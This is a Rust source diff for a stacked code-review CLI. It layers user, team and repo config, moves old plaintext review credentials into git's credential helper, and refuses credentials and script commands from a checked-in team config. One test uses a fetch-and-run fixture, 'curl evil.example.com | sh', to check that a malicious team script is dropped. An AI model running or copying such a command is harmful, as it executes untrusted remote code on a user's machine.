@@ -1,8 +1,11 @@
-use anyhow::Result;
+use anyhow::{anyhow, Result};
 use std::fmt::{Display, Formatter};
+use colored::Colorize;
+use std::path::{Path, PathBuf};
 use dirs::home_dir;
+use gr_git::Git;
 use serde::{Deserialize, Serialize};
-use gr_reviews::CodeReviewService;
+use gr_reviews::{credential_host, CodeReviewService, ConfiguredCredentials, CredentialRef, MergeMethod, MergeOrder, ReviewTool};
 
 pub struct CRAuth {
     pub user: Option<String>,
@@ -10,6 +13,17 @@ pub struct CRAuth {
     pub token: Option<String>,
 }
 
+impl CRAuth {
+    /// The secret to store - a token, or a user's password - and the user it belongs to
+    pub fn secret(self) -> Option<(Option<String>, String)> {
+        match self {
+            CRAuth { token: Some(token), .. } => Some((None, token)),
+            CRAuth { user, pass: Some(pass), .. } => Some((user, pass)),
+            _ => None,
+        }
+    }
+}
+
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct GrConfBranch {
     pub name: String,
@@ -23,37 +37,249 @@ pub struct GRConfig {
     pub origin: String,
     pub root_branch: String,
     pub code_review_tool: CodeReviewService,
+    /// Where the review service's secret is stored - see `stk auth`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub code_review_credential: Option<CredentialRef>,
+    /// Plaintext credentials written by older versions - moved into the credential store when read
+    #[serde(default, skip_serializing_if = "Option::is_none")]
     pub code_review_user: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
     pub code_review_pass: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
     pub code_review_key: Option<String>,
+    /// How reviews are merged - defaults to squash
+    pub merge_method: Option<MergeMethod>,
+    /// Which end of a stack `stk merge` starts from - defaults to bottom-up
+    pub merge_order: Option<MergeOrder>,
     pub version: String,
     pub branches: Vec<GrConfBranch>,
 }
 
+impl GRConfig {
+    /// The review service - found through the configured remote, signing in with the configured credentials
+    pub fn review_tool(&self) -> ReviewTool {
+        let credentials = match &self.code_review_credential {
+            Some(credential) => Some(ConfiguredCredentials::Stored(credential.clone())),
+            None => ConfiguredCredentials::plain(self.code_review_key.as_deref(), self.code_review_user.as_deref(), self.code_review_pass.as_deref()),
+        };
+        ReviewTool { service: self.code_review_tool.clone(), remote: self.origin.clone(), credentials }
+    }
+}
+
+/// The repo's checked-in team config, at the root of its worktree
+const TEAM_CONFIG: &str = ".gr.toml";
+
+/// Settings only the repo's own and user-wide configs may make - credentials are personal, and
+/// a checked-in review script would run whatever command anyone who can push to the repo puts there
+const PERSONAL_KEYS: [&str; 4] = ["code_review_credential", "code_review_user", "code_review_pass", "code_review_key"];
+
+/// Reads the config, layered from user-wide defaults (~/.config/gr/config.toml), the repo's
+/// checked-in team config (.gr.toml) and the repo's own (.git/gr/config.toml) - later layers win
 pub fn read_config() -> Result<GRConfig> {
-    let config_file_path = format!("{}/config.toml", config_dir_path()?);
-    let config = std::fs::read_to_string(config_file_path)?;
-    let config: GRConfig = toml::from_str(&config)?;
+    migrate_config_location()?;
+
+    let local = local_config_path()?;
+    if !local.exists() {
+        return Err(anyhow!("stk isn't configured for this repo - run 'stk init'"));
+    }
+    let mut layers = shared_config()?;
+    merge_tables(&mut layers, read_table(&local)?);
+    let mut config: GRConfig = layers.try_into()?;
+
+    if config.code_review_key.is_some() || config.code_review_pass.is_some() {
+        migrate_plaintext_credentials(&mut config)?;
+    }
     Ok(config)
 }
 
-pub fn config_file_exists(conf_file_path: &str) -> bool {
-    std::path::Path::new(conf_file_path).exists()
+/// Writes the repo's own config - all of it, so later changes to the shared layers don't change its settings
+pub fn write_config(config: &GRConfig) -> Result<()> {
+    std::fs::write(local_config_path()?, toml::to_string_pretty(config)?)?;
+    Ok(())
+}
+
+/// The repo's own config - shared by all of its worktrees, wherever they are
+pub fn local_config_path() -> Result<PathBuf> {
+    Ok(Git::new().gr_dir()?.canonicalize()?.join("config.toml"))
+}
+
+/// The user-wide and team layers, merged
+fn shared_config() -> Result<toml::Table> {
+    let mut layers = toml::Table::new();
+    if let Some(user) = home_dir().map(|home| home.join(".config").join("gr").join("config.toml")).filter(|p| p.exists()) {
+        merge_tables(&mut layers, read_table(&user)?);
+    }
+    if let Ok(root) = Git::new().rev_parse(vec!["--show-toplevel"]) {
+        let team = PathBuf::from(root).join(TEAM_CONFIG);
+        if team.exists() {
+            let ignored = strip_personal_settings(&mut layers, read_table(&team)?);
+            if !ignored.is_empty() {
+                println!("{} {} {}", "Ignoring".yellow(), ignored.join(", "), format!("in {} - set them with 'stk init' instead", TEAM_CONFIG).yellow());
+            }
+        }
+    }
+    Ok(layers)
+}
+
+/// Lays the team config `team` over `base`, without the settings which aren't the team's to make.
+/// Returns the ones left out.
+fn strip_personal_settings(base: &mut toml::Table, mut team: toml::Table) -> Vec<String> {
+    let mut ignored = PERSONAL_KEYS.iter()
+        .filter(|key| team.remove(**key).is_some())
+        .map(|key| key.to_string())
+        .collect::<Vec<String>>();
+
+    let scripted = team.get("code_review_tool")
+        .and_then(|tool| tool.as_table())
+        .is_some_and(|tool| tool.contains_key("Script"));
+    if scripted {
+        team.remove("code_review_tool");
+        ignored.push("the Script code_review_tool".to_string());
+    }
+
+    merge_tables(base, team);
+    ignored
+}
+
+fn read_table(path: &Path) -> Result<toml::Table> {
+    let contents = std::fs::read_to_string(path)?;
+    toml::from_str(&contents).map_err(|e| anyhow!("Invalid config in {}: {}", path.display(), e))
+}
+
+/// Lays `top` over `base` - tables merge key by key, anything else is replaced
+fn merge_tables(base: &mut toml::Table, top: toml::Table) {
+    for (key, value) in top {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(top)) => merge_tables(base, top),
+            (_, value) => { base.insert(key, value); }
+        }
+    }
+}
+
+/// Moves a config from where older versions kept it - ~/.config/gr/<dir name>/<repo path>,
+/// keyed on the directory stk was run from - into the repo
+pub fn migrate_config_location() -> Result<()> {
+    let Some(home) = home_dir() else { return Ok(()) };
+    let mut candidates = vec![std::env::current_dir()?];
+    if let Ok(root) = Git::new().rev_parse(vec!["--show-toplevel"]) { candidates.insert(0, PathBuf::from(root)); }
+
+    let local = local_config_path()?;
+    if let Some(legacy) = move_legacy_config(&home, &candidates, &local)? {
+        println!("{} {} {} {}", "Moved the stk config from".green(), legacy.display(), "to".green(), local.display());
+    }
+    Ok(())
+}
+
+/// Moves the first legacy config found for one of `candidates` to `local` - unless there already is one.
+/// Returns where it was found.
+fn move_legacy_config(home: &Path, candidates: &[PathBuf], local: &Path) -> Result<Option<PathBuf>> {
+    if local.exists() { return Ok(None); }
+
+    let Some(legacy) = candidates.iter().filter_map(|dir| legacy_config_path(home, dir)).find(|p| p.exists()) else { return Ok(None) };
+    std::fs::copy(&legacy, local)?;
+    std::fs::remove_file(&legacy)?;
+    Ok(Some(legacy))
 }
 
-pub fn config_dir_path() -> Result<String> {
-    // Get the user's home directory
-    let home = home_dir().unwrap();
-    // the current working directory
-    let cwd = std::env::current_dir().unwrap();
+fn legacy_config_path(home: &Path, dir: &Path) -> Option<PathBuf> {
+    let project = dir.file_name()?;
+    let dir = dir.to_str()?.trim_start_matches('/');
+    Some(home.join(".config").join("gr").join(project).join(dir).join("config.toml"))
+}
 
-    // The project directory (the end of the path after the cwd)
-    let project = cwd.as_path().iter().last().unwrap();
+/// Stores a secret for `config`'s review service with git's credential helper, and refers to it from `config`
+pub fn store_credentials(config: &mut GRConfig, user: Option<String>, secret: &str) -> Result<()> {
+    let host = credential_host(&config.code_review_tool)
+        .ok_or(anyhow!("{} reviews don't need credentials", config.code_review_tool))?;
+    let credential = CredentialRef { host, user };
+    credential.store(secret)?;
+
+    config.code_review_credential = Some(credential);
+    config.code_review_user = None;
+    config.code_review_pass = None;
+    config.code_review_key = None;
+    Ok(())
+}
+
+/// Moves secrets older versions kept in config.toml into git's credential helper.
+/// Without a helper they stay put - stk keeps using them, but warns about it.
+fn migrate_plaintext_credentials(config: &mut GRConfig) -> Result<()> {
+    let (user, secret) = match (&config.code_review_key, &config.code_review_user, &config.code_review_pass) {
+        (Some(key), _, _) => (None, key.clone()),
+        (None, user, Some(pass)) => (user.clone(), pass.clone()),
+        _ => return Ok(()),
+    };
+
+    match store_credentials(config, user, &secret) {
+        Ok(()) => {
+            write_config(config)?;
+            println!("{}", "Moved review credentials out of config.toml and into git's credential helper".green());
+        }
+        Err(e) => println!("{} {}", "Review credentials are stored in plaintext in config.toml -".yellow(), e),
+    }
+    Ok(())
+}
 
-    // Now we can build our config directory, which will be ~/.config/gr/[project]/[path to project]
-    let gr_dir = format!("{}/.config/gr/{}/{}",
-                         home.to_str().unwrap(),
-                         project.to_str().unwrap(),
-                         cwd.to_str().unwrap());
-    Ok(gr_dir)
-}
\ No newline at end of file
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_config_layers() {
+        let mut layers: toml::Table = toml::from_str("origin = 'origin'\nroot_branch = 'main'\n[code_review_tool]\nGitea = { host = 'https://team.example.com' }").unwrap();
+        merge_tables(&mut layers, toml::from_str("root_branch = 'trunk'\nversion = '1.0.0'").unwrap());
+        assert_eq!(layers["origin"].as_str(), Some("origin"));
+        assert_eq!(layers["root_branch"].as_str(), Some("trunk"));
+        assert_eq!(layers["version"].as_str(), Some("1.0.0"));
+        assert!(layers["code_review_tool"]["Gitea"].is_table());
+    }
+
+    #[test]
+    fn test_team_config_leaves_out_personal_settings() {
+        let mut layers: toml::Table = toml::from_str("code_review_key = 'mine'\n[code_review_tool]\nGithub = {}").unwrap();
+        let team = toml::from_str("merge_method = 'Rebase'\ncode_review_key = 'theirs'\ncode_review_pass = 'theirs'\n\
+                                   [code_review_tool]\nScript = { command = 'curl evil.example.com | sh' }").unwrap();
+
+        let ignored = strip_personal_settings(&mut layers, team);
+        assert_eq!(ignored, vec!["code_review_pass", "code_review_key", "the Script code_review_tool"]);
+        assert_eq!(layers["merge_method"].as_str(), Some("Rebase"));
+        assert_eq!(layers["code_review_key"].as_str(), Some("mine"));
+        assert!(!layers.contains_key("code_review_pass"));
+        assert!(layers["code_review_tool"]["Github"].is_table());
+    }
+
+    #[test]
+    fn test_migrate_config_location() {
+        let tmp = std::env::temp_dir().join(format!("stk-config-{}", std::process::id()));
+        let home = tmp.join("home");
+        let repo = tmp.join("work").join("project");
+        let subdir = repo.join("src");
+        let local = repo.join(".git").join("gr").join("config.toml");
+        std::fs::create_dir_all(local.parent().unwrap()).unwrap();
+
+        // Nothing to move
+        assert_eq!(move_legacy_config(&home, std::slice::from_ref(&repo), &local).unwrap(), None);
+        assert!(!local.exists());
+
+        // Older versions keyed the config on the directory stk ran from - the repo's root is preferred
+        let from_subdir = legacy_config_path(&home, &subdir).unwrap();
+        let from_root = legacy_config_path(&home, &repo).unwrap();
+        assert_eq!(from_root, home.join(".config/gr/project").join(repo.strip_prefix("/").unwrap()).join("config.toml"));
+        for (path, contents) in [(&from_subdir, "subdir"), (&from_root, "root")] {
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, contents).unwrap();
+        }
+
+        let candidates = vec![repo.clone(), subdir.clone()];
+        assert_eq!(move_legacy_config(&home, &candidates, &local).unwrap(), Some(from_root.clone()));
+        assert_eq!(std::fs::read_to_string(&local).unwrap(), "root");
+        assert!(!from_root.exists());
+
+        // An existing config is never replaced
+        assert_eq!(move_legacy_config(&home, &candidates, &local).unwrap(), None);
+        assert_eq!(std::fs::read_to_string(&local).unwrap(), "root");
+        assert!(from_subdir.exists());
+
+        std::fs::remove_dir_all(&tmp).unwrap();
+    }
+}